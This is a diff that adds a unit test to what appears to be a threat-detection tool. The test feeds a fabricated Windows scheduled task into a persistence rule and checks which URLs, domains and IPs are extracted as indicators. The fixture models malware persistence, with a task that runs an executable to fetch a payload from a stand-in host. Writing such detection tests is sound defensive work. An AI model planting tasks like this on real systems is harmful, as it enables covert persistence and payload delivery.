@@ -429,3 +429,16 @@ def test_run_key_value_urls_become_indicators():
     assert ("URL", "https://cdn.example-files.net/u.bin") in values
     assert ("Domain", "cdn.example-files.net") in values
     assert ("IP address", "203.0.113.9") in values
+
+
+def test_scheduled_task_action_urls_but_not_its_namespace():
+    content = ('<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
+               '<Actions><Exec><Command>C:\\Users\\Public\\sync.exe</Command>'
+               '<Arguments>--get https://dl.example-sync.net/p.bin</Arguments></Exec></Actions></Task>')
+    rows = [{"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "ScheduledTaskCreated",
+             "Name": "\\Sync", "Detail": content, "InitiatingProcessAccountName": "administrator1"}]
+    found = rules.scheduled_task_persistence(make_collection(scheduled_tasks_services=rows))
+    values = {(i.kind, i.value) for i in extract_indicators(found, make_collection())}
+    assert ("URL", "https://dl.example-sync.net/p.bin") in values
+    assert ("Domain", "dl.example-sync.net") in values
+    assert not [v for k, v in values if "schemas.microsoft.com" in v]
